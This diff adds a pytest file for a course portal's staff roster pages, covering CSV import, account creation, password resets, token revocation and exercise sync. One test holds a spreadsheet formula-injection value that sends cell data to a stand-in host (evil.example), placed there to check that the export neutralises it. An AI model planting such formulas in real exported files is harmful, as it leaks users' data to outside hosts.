@@ -1,0 +1,456 @@
+"""Accounts and exercises from the web: the roster page, a roster CSV imported after a preview,
+an account added, a password reset, the exercises synced; staff only, students get 403."""
+import csv
+import html
+import io
+import re
+import shutil
+from urllib.parse import unquote
+
+import pytest
+from click.testing import CliRunner
+from sqlalchemy import func, select
+
+from helpers import COURSE_ORDER, CSRF_TOKEN, log_in, logged_in
+from server.core.catalogue import default_root
+from server.core.models import Exercise, User
+from server.core.users import add_user
+from worker.cli.main import main
+
+HEADER = "username,name,email,role\n"
+
+
+@pytest.fixture
+def staffed(course):
+    """The course with an instructor (prof) and an admin (root) besides ana and bea."""
+    with course.app_context():
+        session = course.extensions["hpcgrade.db"].sessions()
+        add_user(session, "prof", "Pilar Ortiz", "p@uni.es", "instructor", "long-password")
+        add_user(session, "root", "Rosa", "r@uni.es", "admin", "long-password")
+        session.commit()
+    return course
+
+
+def users(app) -> dict[str, User]:
+    with app.extensions["hpcgrade.db"].sessions() as session:
+        return {user.username: user for user in session.scalars(select(User))}
+
+
+def upload(client, token, data: bytes, filename="roster.csv", lang="en"):
+    """The preview, or the roster page that a refused file leads back to."""
+    return client.post(f"/staff/roster/upload?lang={lang}", follow_redirects=True, data={
+        "csrf_token": token, "roster": (io.BytesIO(data), filename)})
+
+
+def links(page: str) -> dict[str, str]:
+    """username → set-password link, from a page that shows them."""
+    return dict(re.findall(r'<tr><td>([^<]+)</td>.*?<code class="code link">([^<]+)</code>',
+                           page, re.S))
+
+
+def set_password(app, link: str, password: str = "chosen-password"):
+    """Follow a set-password link as its owner does: the form, then the new password twice."""
+    client = app.test_client()
+    token = CSRF_TOKEN.search(client.get(link).text).group(1)
+    return client.post(link, data={"new": password, "repeat": password, "csrf_token": token})
+
+
+def csv_download(page: str) -> str:
+    return unquote(re.search(r'href="data:text/csv;charset=utf-8,([^"]+)" download', page)
+                   .group(1))
+
+
+def listed(page: str) -> list[str]:
+    """The usernames on the roster page, in its order."""
+    return re.findall(r'<th scope="row">(?:<a [^>]*>)?([\w.-]+)', page)
+
+
+def wrong_lines(page: str) -> dict[str, str]:
+    """line number → problem, from a roster's preview."""
+    return dict(re.findall(r"<tr><td>(\d+)</td><td>([^<]+)</td></tr>", page))
+
+
+def test_students_get_403_and_strangers_the_login(staffed):
+    student, token = logged_in(staffed, "ana")
+    for path in ("/staff/roster/", "/staff/roster/add", "/staff/roster/bea/password"):
+        assert student.get(path).status_code == 403
+    for path in ("/staff/roster/upload", "/staff/roster/import", "/staff/roster/add",
+                 "/staff/roster/bea/password", "/staff/roster/exercises/sync"):
+        assert student.post(path, data={"csrf_token": token}).status_code == 403
+    assert "/staff/roster/" not in student.get("/").text
+    stranger = staffed.test_client().get("/staff/roster/")
+    assert stranger.status_code == 302 and stranger.headers["Location"].startswith("/login")
+
+
+def test_staff_reach_the_roster_from_the_navigation_and_the_course(staffed):
+    client, _ = logged_in(staffed, "prof")
+    assert 'href="/staff/roster/"' in client.get("/").text
+    assert 'href="/staff/roster/"' in client.get("/staff/").text
+    # every user reaches the page that changes their own password from their account page
+    assert 'href="/account/password"' in client.get("/account/tokens").text
+
+
+def test_the_roster_is_searched_sorted_and_filtered(staffed):
+    client, _ = logged_in(staffed, "prof")
+    page = client.get("/staff/roster/").text
+    assert listed(page) == ["ana", "bea", "prof", "root"]  # students first, then staff
+    assert page.index("Students") < page.index("a@uni.es") < page.index("Staff")
+    assert '<th aria-sort="ascending"><a href="/staff/roster/?order=desc">Name</a>' in page
+    by_email = client.get("/staff/roster/?sort=email&order=desc").text
+    assert listed(by_email) == ["bea", "ana", "root", "prof"]
+    assert by_email.count("aria-sort=") == 2 and 'aria-sort="descending"' in by_email
+    found = client.get("/staff/roster/?q=GARCIA").text  # Ana García, whatever the case and accent
+    assert listed(found) == ["ana"] and "1 account shown" in found and "Staff" not in found
+    assert listed(client.get("/staff/roster/?q=uni.es&filter=instructor").text) == ["prof"]
+    assert "No account matches" in client.get("/staff/roster/?q=50%25_").text
+    assert "Lista de clase" in client.get("/staff/roster/?lang=es").text
+
+
+def test_a_roster_is_previewed_then_imported_in_one_go(staffed):
+    client, token = logged_in(staffed, "prof")
+    roster = (HEADER + "ana,Ana García,a@uni.es,student\n"
+              "carl,Carl Núñez,c@uni.es,student\n\n"
+              "dani,Dani,d@uni.es,student\n").encode()
+    preview = upload(client, token, roster)
+    assert preview.status_code == 200
+    assert "2 new accounts" in preview.text and "1 account exists already" in preview.text
+    assert "<td>5</td><td>dani</td>" in preview.text  # the file's own line numbers
+    assert set(users(staffed)) == {"ana", "bea", "prof", "root"}  # nothing stored yet
+    text = html.unescape(re.search(r'name="roster" value="([^"]*)"', preview.text, re.S).group(1))
+    done = client.post("/staff/roster/import", data={"csrf_token": token, "roster": text})
+    assert done.status_code == 200 and "2 accounts added" in done.text
+    assert done.headers["Cache-Control"] == "no-store"  # the links are as good as passwords
+    shown = links(done.text)
+    assert set(shown) == {"carl", "dani"}
+    assert all(re.fullmatch(r"http://localhost/account/set-password/[\w.-]+", link)
+               for link in shown.values())
+    assert "Mail is not set up" in done.text  # so the instructor hands them out
+    sheet = csv_download(done.text)
+    assert sheet.startswith("\ufeffusername,name,email,link\r\n")
+    assert f"carl,Carl Núñez,c@uni.es,{shown['carl']}" in sheet
+    accounts = users(staffed)
+    assert accounts["carl"].role == "student" and accounts["ana"].name == "Ana García"
+    chosen = set_password(staffed, shown["carl"])
+    assert chosen.status_code == 303
+    logged_in(staffed, "carl", "chosen-password")
+    again = client.post("/staff/roster/import", data={"csrf_token": token, "roster": text},
+                        follow_redirects=True)
+    assert "exists already: nothing to add" in again.text and not links(again.text)
+
+
+def test_a_course_roster_is_imported_at_once_without_hashing_a_password(staffed, monkeypatch):
+    """200 rows took 19.5 s (a slow hash of a generated password a row) and 2000 outlasted
+    gunicorn's 30 s: a new account holds no password until its owner sets one."""
+    from server.core import users as accounts
+    hashed = []
+    monkeypatch.setattr(accounts, "generate_password_hash",
+                        lambda *args: hashed.append(1) or "never-used")
+    client, token = logged_in(staffed, "root")
+    rows = "".join(f"s{n:04},Student {n},s{n}@uni.es,student\n" for n in range(2000))
+    done = client.post("/staff/roster/import", data={"csrf_token": token,
+                                                     "roster": HEADER + rows})
+    assert done.status_code == 200 and "2000 accounts added" in done.text
+    assert not hashed and len(links(done.text)) == 2000
+    assert len(users(staffed)) == 2004
+
+
+def test_the_valid_rows_are_imported_and_the_wrong_lines_listed(staffed):
+    """A roster with one wrong line was refused whole; now its valid rows can be imported while
+    the wrong lines are listed, with their line numbers and problems, before and after."""
+    client, token = logged_in(staffed, "prof")
+    text = (HEADER + "carl,Carl,c@uni.es,student\n"
+            "dani,Dani,not-an-email,student\n"
+            "carl,Carl again,c2@uni.es,student\n"
+            "eva,Eva,e@uni.es,admin\n"
+            "fede,Fede,f@uni.es\n"
+            "gil,Gil,g@uni.es,student\n")
+    preview = upload(client, token, text.encode())
+    errors = wrong_lines(preview.text)
+    assert set(errors) == {"3", "4", "5", "6"}
+    assert "is not an email address" in html.unescape(errors["3"])
+    assert "appears twice (first on line 2)" in errors["4"]
+    assert "only an admin may add instructors and admins" in errors["5"]  # prof is an instructor
+    assert "expected 4 columns" in errors["6"]
+    assert "4 wrong lines" in preview.text and "Import the 2 valid rows" in preview.text
+    done = client.post("/staff/roster/import", data={"csrf_token": token, "roster": text})
+    assert done.status_code == 200 and "2 accounts added" in done.text
+    assert set(links(done.text)) == {"carl", "gil"}
+    assert "4 wrong lines were left out" in done.text
+    assert set(wrong_lines(done.text)) == {"3", "4", "5", "6"}
+    assert {"carl", "gil"} <= set(users(staffed)) and "dani" not in users(staffed)
+    admin, admin_token = logged_in(staffed, "root")  # an admin may add admins
+    assert set(wrong_lines(upload(admin, admin_token, text.encode()).text)) == {"3", "4", "6"}
+    only_wrong = HEADER + "hugo,Hugo,nope,student\n"
+    preview = upload(client, token, only_wrong.encode())
+    assert "/staff/roster/import" not in preview.text  # nothing to import
+
+
+@pytest.mark.parametrize("data, filename, message", [
+    (b"", "roster.csv", "the file is empty"),
+    (b"PK\x03\x04\x14\x00\x06\x00", "roster.xlsx", "this is a spreadsheet file, not CSV"),
+    ((HEADER + "ana,Ana García,a@uni.es,student\n").encode("latin-1"), "roster.csv",
+     "line 2 is not UTF-8 text"),
+    ((HEADER + "carl,Carl,c@uni.es,student\n").encode("utf-16"), "roster.csv",
+     "the file is UTF-16 text"),
+    (b"username,name,email,role\ncarl,Carl\x00,c@uni.es,student\n", "roster.csv", "NUL bytes"),
+    (b"username,name\ncarl,Carl\n", "roster.csv",
+     "header must be: username,name,email,role (it is: username,name)"),
+    (b"Dear students,\nwelcome to the course.\n", "notes.txt", "header must be"),
+    (HEADER.encode(), "roster.csv", "the roster lists no accounts"),
+    (b'username,name,email,role\nbea,Bea,b@uni.es,student\ncarl,"Carl\n\n', "roster.csv",
+     "line 3: not CSV (unexpected end of data)"),
+    (HEADER.encode() + b"x" * (1024 << 10), "roster.csv", "larger than 1024 KB"),
+])
+def test_bad_files_are_refused_with_a_clear_message(staffed, data, filename, message):
+    client, token = logged_in(staffed, "prof")
+    reply = upload(client, token, data, filename)
+    assert reply.request.path == "/staff/roster/" and message in html.unescape(reply.text)
+    assert len(users(staffed)) == 4
+
+
+def test_refusals_in_spanish_and_a_missing_file(staffed):
+    client, token = logged_in(staffed, "prof")
+    spanish = upload(client, token, b"username,name\n", lang="es")
+    assert "No se importó nada: la cabecera de la lista de clase debe ser" in spanish.text
+    wrong = upload(client, token, (HEADER + "dani,Dani,nope,student\n").encode(), lang="es")
+    assert "no es una dirección de correo" in html.unescape(wrong.text)
+    missing = client.post("/staff/roster/upload", data={"csrf_token": token},
+                          follow_redirects=True)  # still Spanish
+    assert "Elige el archivo CSV de la lista de clase" in missing.text
+    assert client.post("/staff/roster/upload", data={
+        "roster": (io.BytesIO(HEADER.encode()), "r.csv")}).status_code == 400  # no CSRF token
+
+
+def test_a_spreadsheet_csv_with_semicolons_and_a_bom_is_read(staffed):
+    client, token = logged_in(staffed, "prof")
+    text = "\ufeffusername;name;email;role\r\ncarl;Núñez, Carl;c@uni.es;student\r\n"
+    preview = upload(client, token, text.encode())
+    assert "1 new account" in preview.text and "Núñez, Carl" in preview.text
+
+
+def test_adding_an_account(staffed):
+    client, token = logged_in(staffed, "prof")
+    form = client.get("/staff/roster/add").text
+    assert 'name="role" value="student"' in form and "<select" not in form
+    added = client.post("/staff/roster/add", data={
+        "csrf_token": token, "username": "carl", "name": "Carl", "email": "c@uni.es",
+        "role": "student"})
+    assert added.status_code == 200 and added.headers["Cache-Control"] == "no-store"
+    assert set_password(staffed, links(added.text)["carl"]).status_code == 303
+    logged_in(staffed, "carl", "chosen-password")
+    admin = {"csrf_token": token, "username": "boss", "name": "Boss", "email": "x@uni.es",
+             "role": "admin"}
+    refused = client.post("/staff/roster/add", data=admin)
+    assert refused.status_code == 403 and "Only an admin may add" in refused.text
+    assert "boss" not in users(staffed)
+    bad = client.post("/staff/roster/add", data={**admin, "role": "student", "email": "x"})
+    assert bad.status_code == 400 and "is not an email address" in html.unescape(bad.text)
+    assert 'value="boss"' in bad.text  # what was typed stays
+    taken = client.post("/staff/roster/add", data={**admin, "username": "ana", "role": "student"})
+    assert taken.status_code == 400 and "user ana already exists" in taken.text
+    root, root_token = logged_in(staffed, "root")
+    assert "<select" in root.get("/staff/roster/add").text
+    added_admin = root.post("/staff/roster/add", data={**admin, "csrf_token": root_token})
+    assert added_admin.status_code == 200
+    assert users(staffed)["boss"].role == "admin"
+
+
+def test_a_password_reset_ends_the_users_sessions(staffed):
+    bea, _ = logged_in(staffed, "bea")
+    assert bea.get("/").status_code == 200
+    client, token = logged_in(staffed, "prof")
+    confirm = client.get("/staff/roster/bea/password")
+    assert confirm.status_code == 200 and "Every session of theirs ends" in confirm.text
+    reset = client.post("/staff/roster/bea/password", data={"csrf_token": token})
+    assert reset.status_code == 200 and reset.headers["Cache-Control"] == "no-store"
+    link = links(reset.text)["bea"]
+    assert bea.get("/").headers["Location"].startswith("/login")  # her session has ended
+    assert log_in(staffed.test_client(), "bea").status_code == 401
+    assert set_password(staffed, link).status_code == 303
+    logged_in(staffed, "bea", "chosen-password")
+    # an instructor resets students only; an admin anyone; nobody their own from here
+    assert client.post("/staff/roster/root/password", data={"csrf_token": token}).status_code == 403
+    assert client.get("/staff/roster/nobody/password").status_code == 404
+    own = client.post("/staff/roster/prof/password", data={"csrf_token": token})
+    assert own.headers["Location"] == "/account/password"
+    root, root_token = logged_in(staffed, "root")
+    assert root.post("/staff/roster/prof/password",
+                     data={"csrf_token": root_token}).status_code == 200
+    assert client.get("/staff/roster/").headers["Location"].startswith("/login")
+
+
+@pytest.fixture
+def exercises_copy(tmp_path, monkeypatch):
+    """A copy of the exercises folder that the portal reads instead."""
+    root = tmp_path / "exercises"
+    shutil.copytree(default_root(), root)
+    monkeypatch.setenv("HPCGRADE_EXERCISES", str(root))
+    return root
+
+
+def test_exercises_are_synced_from_the_web(staffed, exercises_copy):
+    client, token = logged_in(staffed, "prof")
+    shutil.copytree(exercises_copy / "metrics", exercises_copy / "metrics-two")
+    shutil.rmtree(exercises_copy / "autograd-no-track")
+    toml = exercises_copy / "tensors-reshape" / "exercise.toml"
+    toml.write_text(re.sub(r'en = "[^"]*"', 'en = "Reshaping, renamed"', toml.read_text(), 1))
+    assert "Sync the exercises" in client.get("/staff/roster/").text
+    synced = client.post("/staff/roster/exercises/sync", data={"csrf_token": token})
+    assert synced.status_code == 303
+    page = client.get(synced.headers["Location"]).text
+    assert "Added: metrics-two" in page and "Updated: tensors-reshape" in page
+    assert "Withdrawn, their folder is gone: autograd-no-track" in page
+    assert "6 exercises are in step with their folders" in page
+    with staffed.extensions["hpcgrade.db"].sessions() as session:
+        rows = {e.slug: e for e in session.scalars(select(Exercise))}
+    assert not rows["autograd-no-track"].active and rows["metrics-two"].active
+    assert rows["tensors-reshape"].title_en == "Reshaping, renamed"
+
+
+def test_a_broken_exercise_is_named_and_nothing_changes(staffed, exercises_copy):
+    client, token = logged_in(staffed, "prof")
+    shutil.rmtree(exercises_copy / "autograd-no-track")
+    (exercises_copy / "metrics" / "exercise.toml").write_text("title = [broken\n")
+    page = client.post("/staff/roster/exercises/sync?lang=es", data={"csrf_token": token},
+                       follow_redirects=True).text
+    assert "Los ejercicios no se sincronizaron, nada cambió" in page and "metrics" in page
+    with staffed.extensions["hpcgrade.db"].sessions() as session:
+        assert session.scalar(select(func.count()).where(Exercise.active)) == len(COURSE_ORDER)
+    assert client.post("/staff/roster/exercises/sync").status_code == 400  # no CSRF token
+
+
+def test_the_cli_reads_rosters_as_the_web_does(tmp_path, monkeypatch):
+    monkeypatch.setenv("HPCGRADE_DATABASE_URL", f"sqlite:///{tmp_path / 'cli.sqlite'}")
+    monkeypatch.delenv("HPCGRADE_SECRET_KEY", raising=False)  # the harness fixture sets one
+    runner = CliRunner()
+    assert runner.invoke(main, ["db", "upgrade"]).exit_code == 0
+    good = tmp_path / "good.csv"
+    good.write_text(HEADER + "ana,Ana,a@uni.es,student\nbea,Bea,b@uni.es,student\n")
+    no_key = runner.invoke(main, ["users", "import", str(good)])
+    assert no_key.exit_code == 1 and "set HPCGRADE_SECRET_KEY" in no_key.output
+    monkeypatch.setenv("HPCGRADE_SECRET_KEY", "test")
+    latin = tmp_path / "latin.csv"
+    latin.write_bytes((HEADER + "ana,Ana García,a@uni.es,student\n").encode("latin-1"))
+    refused = runner.invoke(main, ["users", "import", str(latin)])
+    assert refused.exit_code == 1 and "line 2 is not UTF-8 text" in refused.output
+    wrong = tmp_path / "wrong.csv"
+    wrong.write_text(HEADER + "ana,Ana,nope,student\nana,Ana,a@uni.es,student\n")
+    every = runner.invoke(main, ["users", "import", str(wrong)]).output
+    assert "line 2: user ana: “nope” is not an email address" in every
+    assert "line 3: ana appears twice" in every
+    monkeypatch.setenv("HPCGRADE_PUBLIC_URL", "https://grader.uni.es/hpc/")
+    imported = runner.invoke(main, ["users", "import", str(good)])
+    assert imported.exit_code == 0, imported.output
+    assert re.fullmatch(r"username,link\n(ana|bea),https://grader\.uni\.es/hpc/account/"
+                        r"set-password/[\w.-]+\n(?!\1)(ana|bea),\S+\n", imported.output)
+    monkeypatch.delenv("HPCGRADE_PUBLIC_URL")
+    paths = tmp_path / "more.csv"
+    paths.write_text(HEADER + "carl,Carl,c@uni.es,student\n")
+    paths_only = runner.invoke(main, ["users", "import", str(paths)])
+    assert paths_only.exit_code == 0
+    assert re.search(r"^carl,/account/set-password/[\w.-]+$", paths_only.stdout, re.M)
+    assert "HPCGRADE_PUBLIC_URL is not set" in paths_only.stderr
+
+
+
+def test_a_name_or_email_too_long_or_with_a_control_character_is_a_wrong_line(staffed):
+    """PostgreSQL refuses a value longer than its column (a 500 before): each is a wrong line
+    of the preview, or a refusal of the form, which names it."""
+    client, token = logged_in(staffed, "prof")
+    long_email = "c" * 250 + "@uni.es"
+    text = (HEADER + f"carl,{'C' * 201},c@uni.es,student\n"
+            f"dani,Dani,{long_email},student\n"
+            "eva,\"Eva\tRuiz\",e@uni.es,student\n"
+            "fede,Fede,f\x01@uni.es,student\n"
+            f"gil,{'G' * 200},g@uni.es,student\n")
+    errors = wrong_lines(upload(client, token, text.encode()).text)
+    assert set(errors) == {"2", "3", "4", "5"}  # 200 characters fit
+    assert "user carl: the name has 201 characters; at most 200 fit" in errors["2"]
+    assert "user dani: the email address has 257 characters; at most 254 fit" in errors["3"]
+    assert "user eva: the name holds a control character" in errors["4"]
+    assert "user fede: the email address holds a control character" in errors["5"]
+    form = {"csrf_token": token, "username": "hana", "name": "H" * 300, "email": "h@uni.es",
+            "role": "student"}
+    refused = client.post("/staff/roster/add", data=form)
+    assert refused.status_code == 400
+    assert "Not added: user hana: the name has 300 characters; at most 200 fit" in refused.text
+    refused = client.post("/staff/roster/add", data={**form, "name": "Hana", "email": long_email})
+    assert refused.status_code == 400 and "257 characters" in refused.text
+    spanish = client.post("/staff/roster/add?lang=es", data={**form, "name": "Ha\x1bna"})
+    assert "el nombre contiene un carácter de control" in spanish.text
+    added = client.post("/staff/roster/add", data={**form, "name": "H" * 200})
+    assert added.status_code == 200 and users(staffed)["hana"].name == "H" * 200
+
+
+def test_the_links_csv_runs_no_formula_and_suits_a_spanish_excel(staffed):
+    """Names come from an uploaded file: one that a spreadsheet would run is written as text."""
+    client, token = logged_in(staffed, "prof")
+    hostile = '=HYPERLINK("http://evil.example/?"&D2,"ok")'
+    text = HEADER + f'carl,"{hostile.replace(chr(34), chr(34) * 2)}",c@uni.es,student\n'
+    preview = upload(client, token, text.encode(), lang="es")
+    roster = html.unescape(re.search(r'name="roster" value="([^"]*)"', preview.text).group(1))
+    done = client.post("/staff/roster/import?lang=es", data={"csrf_token": token,
+                                                             "roster": roster})
+    sheet = csv_download(done.text)
+    assert sheet.startswith("\ufeffusername;name;email;link\r\n")  # Excel set to Spanish
+    row = next(csv.reader(io.StringIO(sheet.splitlines()[1]), delimiter=";"))
+    assert row[:3] == ["carl", "'" + hostile, "c@uni.es"]
+    assert users(staffed)["carl"].name == hostile  # stored as it was given
+
+
+def test_a_roster_far_over_the_limit_is_named_as_a_roster(staffed):
+    """A request over the cap never reaches the view: its answer names the roster's limit, not
+    a notebook's outputs, and leads back to the roster."""
+    client, token = logged_in(staffed, "prof")
+    size = 33 << 20
+    reply = client.post("/staff/roster/upload", headers={"Referer": "http://localhost/staff/roster/"},
+                        data={"csrf_token": token,
+                              "roster": (io.BytesIO(b"x" * size), "roster.csv")})
+    assert reply.status_code == 303 and reply.headers["Location"] == "/staff/roster/"
+    page = client.get("/staff/roster/").text
+    assert "The roster file is larger than 1024 KB." in page and "notebook" not in page
+
+
+def test_the_roster_is_searched_with_the_staff_pages_form(staffed):
+    client, _ = logged_in(staffed, "prof")
+    page = client.get("/staff/roster/?q=zzz&filter=student").text
+    assert 'placeholder="Name, username or email"' in page  # as on the gradebook
+    assert '<option value="student" selected>' in page
+    assert '<a href="/staff/roster/">Show every account</a>' in page
+
+
+def test_a_password_reset_revokes_the_students_api_tokens(staffed):
+    """Whoever had learnt the old password kept the API through a staff reset; now the reset
+    revokes the student's tokens (nobody else's) and the pages say so."""
+    api = staffed.test_client()
+    tokens = {name: {"Authorization": "Bearer " + api.post("/api/v1/tokens", json={
+        "username": name, "password": "long-password"}).json["token"]} for name in ("bea", "ana")}
+    client, token = logged_in(staffed, "prof")
+    reset = client.post("/staff/roster/bea/password", data={"csrf_token": token})
+    assert api.get("/api/v1/exercises", headers=tokens["bea"]).status_code == 401
+    assert api.get("/api/v1/exercises", headers=tokens["ana"]).status_code == 200
+    assert "1 API token of bea was revoked." in reset.text
+    assert "their API tokens are revoked" in client.get("/staff/roster/bea/password").text
+
+
+def test_the_links_of_accounts_waiting_for_a_password_are_shown_again(staffed):
+    """A link handed out and lost: staff show it again while its account has no password; an
+    instructor sees the students' links only."""
+    client, token = logged_in(staffed, "root")
+    client.post("/staff/roster/import", data={"csrf_token": token, "roster": (
+        HEADER + "carl,Carl,c@uni.es,student\ndani,Dani,d@uni.es,student\n"
+        "ines,Inés,i@uni.es,instructor\n")})
+    prof, _ = logged_in(staffed, "prof")
+    roster = prof.get("/staff/roster/").text
+    assert "2 accounts are waiting for a password" in roster
+    assert 'href="/staff/roster/waiting"' in roster
+    waiting = prof.get("/staff/roster/waiting")
+    assert waiting.status_code == 200 and waiting.headers["Cache-Control"] == "no-store"
+    shown = links(waiting.text)
+    assert set(shown) == {"carl", "dani"}  # not the instructor's
+    assert set(links(client.get("/staff/roster/waiting").text)) == {"carl", "dani", "ines"}
+    set_password(staffed, shown["carl"])
+    assert set(links(prof.get("/staff/roster/waiting").text)) == {"dani"}
+    assert "1 account is waiting for a password" in prof.get("/staff/roster/").text
+    student, _ = logged_in(staffed, "ana")
+    assert student.get("/staff/roster/waiting").status_code == 403
